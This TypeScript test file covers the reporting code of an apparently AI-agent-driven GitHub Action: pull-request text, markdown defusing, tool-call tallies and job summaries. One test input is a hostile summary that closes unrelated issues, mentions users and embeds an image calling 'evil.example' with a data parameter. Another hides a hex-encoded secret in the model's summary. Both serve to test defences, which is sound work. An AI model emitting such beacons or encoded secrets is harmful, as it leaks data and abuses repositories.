/**
 * What a run reports besides the comment: the pull request's title and body, the tool-call tally
 * (from a real agent session's events), and the job summary and outputs written by the real
 * `@actions/core` to the files GitHub names in GITHUB_STEP_SUMMARY and GITHUB_OUTPUT.
 */
import assert from "node:assert/strict";
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, beforeEach, describe, test } from "node:test";
import type { LoopEvent } from "../../src/domain/loop.ts";
import { createModelClient } from "../../src/agent/model.ts";
import { runSession } from "../../src/agent/session.ts";
import { PitcrewError, describeError } from "../../src/errors.ts";
import { PITCREW_COMMENT_MARKER } from "../../src/domain/conversation.ts";
import { audienceOf } from "../../src/present/defuse.ts";
import type { FinalState } from "../../src/domain/ending.ts";
import { allToolCallsFailed, setOutputs, writeJobSummary } from "../../src/github/report.ts";
import { pullRequestText } from "../../src/present/pull-request.ts";
import type { PullRequestFacts } from "../../src/present/pull-request.ts";
import { codeBlock, quotedMarkdown } from "../../src/present/text.ts";
import { RUN_START, foldEvent } from "../../src/domain/run-state.ts";
import type { ToolTally } from "../../src/domain/run-state.ts";
import { RUN_URL, SEVEN_TURNS, issueTask } from "../support/tasks.ts";
import { DEFAULT_SETTINGS } from "../../src/sandbox/policy.ts";
import { needsBwrap } from "../support/bwrap.ts";
import { createFixtureRepo } from "../support/fixture-repo.ts";
import { withholdSecrets } from "../../src/git/secret-scan.ts";
import { fakeSecrets } from "../support/secret-fixtures.ts";
import { callTools, say, startModelServer } from "../support/model-server.ts";

const TASK = issueTask();
const AUDIENCE = audienceOf(TASK, RUN_URL);
const TOTALS = SEVEN_TURNS;
const DIFFSTAT = " src/parse.ts      | 4 +++-\n test/parse.test.ts | 6 ++++++\n 2 files changed";
const FACTS: PullRequestFacts = {
  task: TASK,
  issueTitle: "Parser crashes on empty input",
  summary: "The parser read past the end of empty input. It checks the length first now.",
  stopReason: "done",
  diffstat: DIFFSTAT,
  runUrl: RUN_URL,
  totals: TOTALS,
};

describe("pullRequestText", () => {
  test("title: the issue's for fix, else the instruction's first line, at most 72 characters", () => {
    assert.equal(pullRequestText(FACTS).title, "Parser crashes on empty input");
    const long = pullRequestText({
      ...FACTS,
      issueTitle: "The parser crashes on empty input when the file ends without any newline at all",
    }).title;
    assert.equal(long, "The parser crashes on empty input when the file ends without any…");
    assert.ok(long.length <= 72);
    const instructed = pullRequestText({
      ...FACTS,
      task: { ...TASK, kind: "instruction", instruction: "\n  rename   parse to read\nand more" },
    });
    assert.equal(instructed.title, "rename parse to read");
    const continued = pullRequestText({ ...FACTS, task: { ...TASK, kind: "continue" } });
    assert.equal(continued.title, "Parser crashes on empty input");
    const dispatched = pullRequestText({
      ...FACTS,
      issueTitle: undefined,
      task: {
        ...TASK,
        kind: "dispatch",
        thread: { kind: "dispatch", runId: "77" },
        threadKey: "dispatch-77",
      },
    });
    assert.equal(dispatched.title, "pitcrew: dispatch-77");
  });

  test("body when done: marker, summary, changes, Fixes #N, who asked, the run, the totals", () => {
    const { body } = pullRequestText(FACTS);
    assert.equal(
      body,
      [
        PITCREW_COMMENT_MARKER,
        FACTS.summary,
        `### Changes\n\n\`\`\`text\n${DIFFSTAT}\n\`\`\``,
        "Fixes #12: Parser crashes on empty input",
        `---\n@alice asked for \`/agent fix\` · [workflow run](${RUN_URL})`,
        "turns: 7 · tokens: 42,000 (prompt 40,000, 75% cached; completion 2,000) · cost: $0.0123",
      ].join("\n\n"),
    );
  });

  test("body after an early stop: unfinished, Part of #N, and how to go on", () => {
    const { body } = pullRequestText({ ...FACTS, stopReason: "time_budget" });
    assert.ok(body.startsWith(`${PITCREW_COMMENT_MARKER}\n\n> [!WARNING]\n`));
    assert.ok(
      body.includes(
        "**Unfinished:** pitcrew stopped early (the time budget ran out); this draft holds the work so far. Reply `/agent continue` on #12 to go on from here.",
      ),
    );
    assert.ok(body.includes("\n\nPart of #12: Parser crashes on empty input\n\n"));
    assert.ok(!body.includes("Fixes"));
  });

  test("body on a PR thread and on a dispatch: no closing keyword", () => {
    const onPull = pullRequestText({
      ...FACTS,
      task: { ...TASK, thread: { kind: "pr", number: 7 }, threadKey: "pr-7" },
    }).body;
    assert.ok(onPull.includes("\n\nFor #7: Parser crashes on empty input\n\n"));
    assert.ok(!onPull.includes("Fixes"));
    const dispatched = pullRequestText({
      ...FACTS,
      task: {
        ...TASK,
        kind: "dispatch",
        instruction: "bump the linter",
        thread: { kind: "dispatch", runId: "77" },
        threadKey: "dispatch-77",
      },
    }).body;
    assert.ok(!/Fixes|Part of|For #/.test(dispatched));
    assert.ok(dispatched.includes("@alice asked for a workflow dispatch: “bump the linter”"));
  });

  test("the summary and the title cannot close other issues, mention anyone or load outside images", () => {
    const attack =
      "Fixes #99, closes #100; fixes #12. Thanks &#64;bob ![](https://evil.example/?d=x)";
    const { title, body } = pullRequestText({
      ...FACTS,
      issueTitle: "Crash (closes #5)",
      summary: `${attack}\n\n\`\`\`\nresolves #101\n\`\`\``,
      stopReason: "max_turns",
    });
    assert.equal(title, "Crash (closes `#5`)");
    assert.ok(
      body.includes(
        "Fixes `#99`, closes `#100`; fixes #12. Thanks &amp;#64;bob `![](https://evil.example/?d=x)`",
      ),
      body,
    );
    assert.ok(body.includes("```\nresolves #\u200b101\n```"));
    assert.ok(body.includes("\n\nPart of #12: Crash (closes `#5`)\n\n"));
    // The same line as the title a finished run's summary gives: defused there too.
    const finished = pullRequestText({ ...FACTS, summary: `${attack}\n\nthe rest` });
    assert.ok(finished.title.startsWith("Fixes `#99`, closes `#100`; fixes #12."), finished.title);
    assert.doesNotMatch(finished.title, /(?<!`)#(99|100)(?!`)/);
  });

  test("title when done: the first line of the model's summary says what changed; the issue's title stays in the body", () => {
    const summary =
      "## Check the input's length before reading\n\nThe parser read past the end of empty input.";
    const { title, body } = pullRequestText({ ...FACTS, summary });
    assert.equal(title, "Check the input's length before reading");
    assert.ok(
      body.includes(`${PITCREW_COMMENT_MARKER}\n\nThe parser read past the end of empty input.`),
    );
    assert.ok(!body.includes("## Check"), "the title line is not said twice");
    assert.ok(body.includes("\n\nFixes #12: Parser crashes on empty input\n\n"));
    for (const [given, expected] of [
      ["**Title: Guard empty input**\nmore", "Guard empty input"],
      ["Done.\nmore", "Parser crashes on empty input"],
      ["Here is what I changed:\n- a", "Parser crashes on empty input"],
      [`${"a very long first line ".repeat(6)}\nmore`, "Parser crashes on empty input"],
      ["One line only, no body after it", "Parser crashes on empty input"],
    ] as const) {
      assert.equal(pullRequestText({ ...FACTS, summary: given }).title, expected, given);
    }
    const stopped = pullRequestText({ ...FACTS, summary, stopReason: "time_budget" });
    assert.equal(stopped.title, "Parser crashes on empty input", "a draft keeps the issue's title");
  });

  test("an empty summary says so; a summary with an open fence cannot swallow the rest", () => {
    assert.ok(
      pullRequestText({ ...FACTS, summary: "" }).body.includes("_The agent left no summary._"),
    );
    const { body } = pullRequestText({ ...FACTS, summary: "Changed:\n~~~~diff\n- a\n+ b" });
    assert.ok(body.includes("~~~~diff\n- a\n+ b\n~~~~\n\n### Changes"));
  });
});

describe("text rules", () => {
  test("quotedMarkdown: fenced code kept as written, inline code broken invisibly, prose defused, open fences closed", () => {
    const cases: [string, string][] = [
      ["see <details> and <!-- x", "see &lt;details> and &lt;!-- x"],
      ["thanks @bob, mail a@b.com", "thanks @\u200bbob, mail a@b.com"],
      ["inline `<b> @bob` stays", "inline `<\u200bb> @\u200bbob` stays"],
      ["``a ` @bob`` and @bob", "``a ` @\u200bbob`` and @\u200bbob"],
      ["```\n<!-- kept -->\n```\nafter <i>", "```\n<!-- kept -->\n```\nafter &lt;i>"],
      ["````md\n```\nstill code", "````md\n```\nstill code\n````"],
      ["I ran ```npm test``` twice", "I ran ```npm test``` twice"],
    ];
    for (const [text, expected] of cases)
      assert.equal(quotedMarkdown(text, AUDIENCE), expected, text);
  });

  test("quotedMarkdown: cut at a line end near the limit, saying how much was cut", () => {
    const text = Array.from({ length: 100 }, (_, i) => `line ${i}`).join("\n");
    const quoted = quotedMarkdown(text, AUDIENCE, 100);
    assert.ok(quoted.startsWith("line 0\nline 1\n"));
    assert.match(quoted, /line \d+\n\n… \([\d,]+ more characters cut\)$/);
    assert.ok(quoted.length < 150);
  });

  test("codeBlock: a fence longer than any backtick run in the text", () => {
    assert.equal(codeBlock("a ```` b\n"), "`````text\na ```` b\n`````");
  });
});

describe("tool tally", () => {
  test(
    "from a real session: calls, failures and time per tool, in order of first use",
    needsBwrap(),
    async (t) => {
      const fixture = createFixtureRepo("report");
      const server = await startModelServer([
        callTools([
          {
            name: "todo_write",
            arguments: JSON.stringify({ todos: [{ content: "Look", status: "in_progress" }] }),
          },
          { name: "bash", arguments: JSON.stringify({ command: "printf ok" }) },
          { name: "bash", arguments: JSON.stringify({ cmd: "no such argument" }) },
        ]),
        callTools([
          { name: "deploy", arguments: "{}" },
          { name: "bash", arguments: JSON.stringify({ command: "true" }) },
        ]),
        say("Done."),
      ]);
      t.after(async () => {
        await server.close();
        rmSync(fixture.root, { recursive: true, force: true });
      });
      const events: LoopEvent[] = [];
      await runSession({
        workspace: fixture.repo,
        sandbox: { ...DEFAULT_SETTINGS, backend: "bwrap", homeReadOnly: [], timeoutMs: 20_000 },
        model: createModelClient({ apiKey: "sk-test", model: "gpt-4.1", baseUrl: server.url }),
        messages: [
          { role: "system", content: "You fix bugs." },
          { role: "user", content: "Look around." },
        ],
        limits: { maxTurns: 10 },
        promptCacheKey: "pitcrew-report-test",
        env: { HOME: fixture.home, PATH: process.env.PATH },
        onEvent: (event) => events.push(event),
      });
      const { tally } = events.reduce(foldEvent, RUN_START);
      assert.deepEqual(
        tally.map(({ name, calls, failures }) => ({ name, calls, failures })),
        [
          { name: "todo_write", calls: 1, failures: 0 },
          { name: "bash", calls: 3, failures: 1 },
          { name: "deploy", calls: 1, failures: 1 },
        ],
      );
      const ended = events.filter((event) => event.type === "tool_end");
      const bashMs = ended
        .filter((event) => event.call.name === "bash")
        .reduce((sum, event) => sum + event.durationMs, 0);
      assert.equal(tally[1]?.totalMs, bashMs);
      assert.equal(allToolCallsFailed(tally), false);
    },
  );

  test("allToolCallsFailed: only when calls were made and every one that touches the workspace failed", () => {
    const count = (name: string, calls: number, failures: number) => ({
      name,
      calls,
      failures,
      totalMs: 10,
    });
    assert.equal(allToolCallsFailed([]), false, "no calls: the model just answered");
    assert.equal(allToolCallsFailed([count("todo_write", 2, 0)]), false);
    assert.equal(
      allToolCallsFailed([count("todo_write", 2, 0), count("bash", 5, 5), count("read", 1, 1)]),
      true,
      "a working todo list does not hide a broken sandbox",
    );
    assert.equal(allToolCallsFailed([count("bash", 5, 4), count("read", 1, 1)]), false);
  });
});

// ---- Job summary and outputs through the real @actions/core ------------------------------------

const DONE: FinalState = {
  task: TASK,
  runUrl: RUN_URL,
  todos: [],
  totals: TOTALS,
  phase: "done",
  summary: "Fixed the parser. @bob <!-- x",
  pull: {
    number: 34,
    url: "https://github.com/acme/app/pull/34",
    draft: true,
    operation: "created",
  },
};
const TALLY: ToolTally = [
  { name: "bash", calls: 3, failures: 1, totalMs: 1534 },
  { name: "<img>", calls: 1, failures: 1, totalMs: 2 },
];

describe("job summary and outputs", () => {
  let dir = "";
  let summaryFile = "";
  let outputFile = "";
  const saved = {
    summary: process.env.GITHUB_STEP_SUMMARY,
    output: process.env.GITHUB_OUTPUT,
  };
  const restore = (name: string, value: string | undefined): void => {
    if (value === undefined) delete process.env[name];
    else process.env[name] = value;
  };
  before(() => {
    dir = mkdtempSync(join(tmpdir(), "pitcrew-report-"));
    summaryFile = join(dir, "summary.md");
    outputFile = join(dir, "output.txt");
    process.env.GITHUB_STEP_SUMMARY = summaryFile;
    process.env.GITHUB_OUTPUT = outputFile;
  });
  beforeEach(() => {
    writeFileSync(summaryFile, "");
    writeFileSync(outputFile, "");
  });
  after(() => {
    restore("GITHUB_STEP_SUMMARY", saved.summary);
    restore("GITHUB_OUTPUT", saved.output);
    rmSync(dir, { recursive: true, force: true });
  });
  const noWarnings = {
    warning: (message: string): void => assert.fail(`unexpected warning: ${message}`),
  };

  /** GITHUB_OUTPUT's `name<<delimiter` blocks, as GitHub reads them. */
  function outputs(): Record<string, string> {
    const found: Record<string, string> = {};
    const block = /^([\w-]+)<<(ghadelimiter_[\w-]+)\n([\s\S]*?)\n\2$/gm;
    for (const match of readFileSync(outputFile, "utf8").matchAll(block))
      found[match[1] ?? ""] = match[3] ?? "";
    return found;
  }

  test("done: heading, facts, the PR link, the summary and a table of tool calls", async () => {
    await writeJobSummary({ ...DONE, branch: "pitcrew/issue-12", tally: TALLY }, noWarnings);
    const written = readFileSync(summaryFile, "utf8");
    assert.ok(written.startsWith("<h2>pitcrew finished</h2>\n"));
    for (const fact of [
      "- @alice asked for `/agent fix`",
      "- Conclusion: `success`",
      "- Pull request: [#34](https://github.com/acme/app/pull/34) (draft)",
      "- Branch: `pitcrew/issue-12`",
      "- turns: 7 · tokens: 42,000 (prompt 40,000, 75% cached; completion 2,000) · cost: $0.0123",
    ])
      assert.ok(written.includes(`${fact}\n`), fact);
    assert.ok(written.includes("<h3>Summary</h3>\n\nFixed the parser. @\u200bbob &lt;!-- x\n"));
    assert.ok(
      written.includes(
        "<h3>Tool calls</h3>\n<table><tr><th>Tool</th><th>Calls</th><th>Failed</th><th>Time</th></tr>" +
          "<tr><td><code>bash</code></td><td>3</td><td>1</td><td>1.5 s</td></tr>" +
          "<tr><td><code>&lt;img&gt;</code></td><td>1</td><td>1</td><td>0.0 s</td></tr></table>",
      ),
    );
  });

  test("stopped, failed, refused: each says why in its facts", async () => {
    await writeJobSummary(
      { ...DONE, phase: "stopped", stopReason: "cost_budget", summary: "", tally: [] },
      noWarnings,
    );
    await writeJobSummary(
      { ...DONE, phase: "stopped", stopReason: "token_budget", summary: "", tally: [] },
      noWarnings,
    );
    await writeJobSummary(
      {
        ...DONE,
        phase: "failed",
        error: describeError(new PitcrewError("model-unavailable", "The model call failed: 503.")),
        tally: [],
      },
      noWarnings,
    );
    await writeJobSummary(
      { ...DONE, phase: "refused", reason: "@mallory may not ask.", totals: undefined, tally: [] },
      noWarnings,
    );
    const written = readFileSync(summaryFile, "utf8");
    assert.ok(
      written.includes(
        "- Stopped: the cost budget ran out. Reply `/agent continue` on #12 to go on from here.\n",
      ),
    );
    assert.ok(
      written.includes(
        "- Stopped: the token budget ran out. Reply `/agent continue` on #12 to go on from here.\n",
      ),
    );
    assert.ok(written.includes("<h2>pitcrew failed</h2>"));
    assert.ok(written.includes("- Conclusion: `failure`\n"));
    assert.ok(written.includes("- Error: model-unavailable: The model call failed: 503.\n"));
    assert.ok(written.includes("<h2>pitcrew did not start</h2>"));
    assert.ok(written.includes("- Refused: @\u200bmallory may not ask.\n"));
    assert.ok(!written.includes("<h3>Tool calls</h3>"));
    assert.ok(!written.includes("<h3>Summary</h3>"), "an empty summary gets no section");
  });

  test("a held secret in the model's summary, even hex-encoded, never reaches the job summary", async () => {
    const [token] = fakeSecrets();
    const hex = Buffer.from(token).toString("hex");
    await writeJobSummary(
      { ...DONE, summary: `Fixed it.\nThe key is ${hex}.\nAll tests pass.`, tally: [] },
      noWarnings,
      (text) => withholdSecrets(text, [token]),
    );
    const written = readFileSync(summaryFile, "utf8");
    assert.ok(!written.includes(hex) && !written.includes(token));
    assert.match(written, /a line was withheld here: .*hex-encoded/);
    assert.ok(written.includes("Fixed it.") && written.includes("All tests pass."));
  });

  test("a summary that cannot be written is a warning, and leaves nothing behind for the next", async () => {
    rmSync(summaryFile);
    mkdirSync(summaryFile);
    const warnings: string[] = [];
    try {
      await writeJobSummary({ ...DONE, tally: TALLY }, { warning: (m) => void warnings.push(m) });
    } finally {
      rmSync(summaryFile, { recursive: true });
      writeFileSync(summaryFile, "");
    }
    assert.equal(warnings.length, 1);
    assert.match(warnings[0] ?? "", /^Could not write the job summary: .*EISDIR/);
    await writeJobSummary({ ...DONE, phase: "refused", reason: "no", tally: [] }, noWarnings);
    assert.ok(!readFileSync(summaryFile, "utf8").includes("pitcrew finished"));
  });

  test("outputs: all eight names, every time, in GitHub's file format", () => {
    setOutputs({
      conclusion: "success",
      pull: {
        number: 34,
        url: "https://github.com/acme/app/pull/34",
        draft: false,
        operation: "created",
      },
      branch: "pitcrew/issue-12",
      totals: TOTALS,
    });
    assert.deepEqual(outputs(), {
      conclusion: "success",
      "pr-url": "https://github.com/acme/app/pull/34",
      "pr-number": "34",
      "pull-request-operation": "created",
      branch: "pitcrew/issue-12",
      turns: "7",
      tokens: "42000",
      cost: "0.0123",
    });
    writeFileSync(outputFile, "");
    setOutputs({ conclusion: "refused" });
    assert.deepEqual(outputs(), {
      conclusion: "refused",
      "pr-url": "",
      "pr-number": "",
      "pull-request-operation": "none",
      branch: "",
      turns: "0",
      tokens: "0",
      cost: "0.0000",
    });
  });
});
